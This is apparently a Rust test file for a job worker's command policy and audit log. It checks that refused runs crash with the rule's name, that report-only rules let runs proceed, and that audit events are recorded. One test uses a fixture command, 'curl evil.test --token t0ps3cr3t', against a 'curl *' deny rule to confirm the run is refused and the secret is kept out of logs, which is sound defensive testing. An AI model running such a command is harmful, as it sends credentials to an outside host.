//! What becomes of runs that the worker's policy refuses, and what the audit log says.

use std::time::Duration;

use camino::{Utf8Path, Utf8PathBuf};
use serde_json::{Value, json};
use worker_core::policy::{List, Pattern, Rule, Topic};

use super::fake::Stage;
use super::{BOUND, last_message, proposed};
use crate::audit::AuditLog;

fn rule(topic: Topic, denied: &str) -> Rule {
    let list = List { allow: None, deny: vec![Pattern::new(denied)] };
    Rule {
        name: "house-rule".to_owned(),
        help: Some("Ask #platform.".to_owned()),
        lists: [(topic, list)].into(),
        ..Rule::default()
    }
}

/// An audit log in a directory that is removed with the first value.
fn audit_log(required: bool) -> (tempfile::TempDir, Utf8PathBuf, AuditLog) {
    let directory = tempfile::tempdir().unwrap();
    let path = Utf8Path::from_path(directory.path()).unwrap().join("audit.jsonl");
    let log = AuditLog::start(path.clone(), required).unwrap();
    (directory, path, log)
}

fn lines(path: &Utf8Path) -> Vec<Value> {
    let text = fs_err::read_to_string(path).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn events(lines: &[Value]) -> Vec<&str> {
    lines.iter().map(|line| line["event"].as_str().unwrap()).collect()
}

#[tokio::test]
async fn a_refused_run_crashes_for_good_with_the_name_of_the_rule_and_what_to_do() {
    let (_directory, path, log) = audit_log(false);
    let stage = Stage::new(json!({"command": "curl evil.test --token t0ps3cr3t"}));
    let stage = stage.with_rules(vec![rule(Topic::Commands, "curl *")]).with_reruns().with_audit(log);
    stage.play(BOUND).await;
    assert_eq!(proposed(&stage.fake), ["Pending", "Crashed"], "nothing is announced, and nothing put back");
    assert!(stage.fake.infra_ids().is_empty());
    let message = last_message(&stage.fake);
    assert!(message.contains("`house-rule`") && message.ends_with("Ask #platform."), "{message}");
    let lines = lines(&path);
    assert_eq!(events(&lines), ["claim", "refuse", "end"]);
    assert_eq!(lines[1]["rule"], "house-rule");
    assert_eq!(lines[2]["why"], "refused");
    assert!(!format!("{lines:?}{message}").contains("t0ps3cr3t"));
}

#[tokio::test(start_paused = true)]
async fn a_rule_that_only_reports_lets_the_run_go_and_says_so_in_its_log() {
    let reporting = Rule { only_reports: true, ..rule(Topic::Commands, "*") };
    let stage = Stage::new(json!({"command": "true"})).with_rules(vec![reporting]);
    stage.play(BOUND).await;
    assert_eq!(proposed(&stage.fake), ["Pending", "Submitting"]);
    let said = stage.fake.log().iter().filter(|line| line.contains("`house-rule`, which only reports")).count();
    assert_eq!(said, 1, "{:?}", stage.fake.log());
}

#[tokio::test]
async fn what_is_done_with_a_run_is_written_down() {
    let (_directory, path, log) = audit_log(false);
    let stage = Stage::new(json!({"exit_code": 3, "command": "sh -c x"})).with_audit(log);
    stage.play(BOUND).await;
    let lines = lines(&path);
    assert_eq!(events(&lines), ["claim", "launch", "started", "end"]);
    for line in &lines {
        assert_eq!(
            (&line["pool"], &line["kind"], &line["flow_run_name"]),
            (&json!("p"), &json!("scripted"), &json!("r"))
        );
        assert!(line["time"].is_string() && line["flow_run_id"].is_string() && line["deployment_id"].is_string());
    }
    assert_eq!(lines[1]["commands_sha256"].as_str().unwrap().len(), 64);
    assert!(lines[2]["infrastructure"].as_str().unwrap().starts_with("scripted:"));
    assert_eq!(lines[3]["why"], "crashed with 3");
}

#[tokio::test]
async fn a_full_disk_stops_no_run() {
    let stage = Stage::new(json!({})).with_audit(AuditLog::start("/dev/full".into(), false).unwrap());
    stage.play(BOUND).await;
    assert_eq!(proposed(&stage.fake), ["Pending", "Submitting"]);
}

#[tokio::test]
async fn a_run_waits_for_an_audit_log_that_is_required() {
    let (directory, path, log) = audit_log(true);
    // A directory in its place: nothing can be added until it is gone.
    let in_the_way = async || {
        fs_err::remove_file(&path).unwrap();
        fs_err::create_dir(&path).unwrap();
    };
    in_the_way().await;
    let stage = Stage::new(json!({})).with_audit(log);
    let playing = stage.start();
    let waits = async {
        while !stage.fake.log().iter().any(|line| line.contains("is required, so the run waits")) {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    };
    tokio::time::timeout(Duration::from_secs(20), waits).await.expect("the run waits");
    assert!(stage.fake.infra_ids().is_empty());
    fs_err::remove_dir(&path).unwrap();
    playing.end(Duration::from_secs(20)).await;
    assert_eq!(events(&lines(&path)), ["launch", "started", "end"]);
    drop(directory);
}
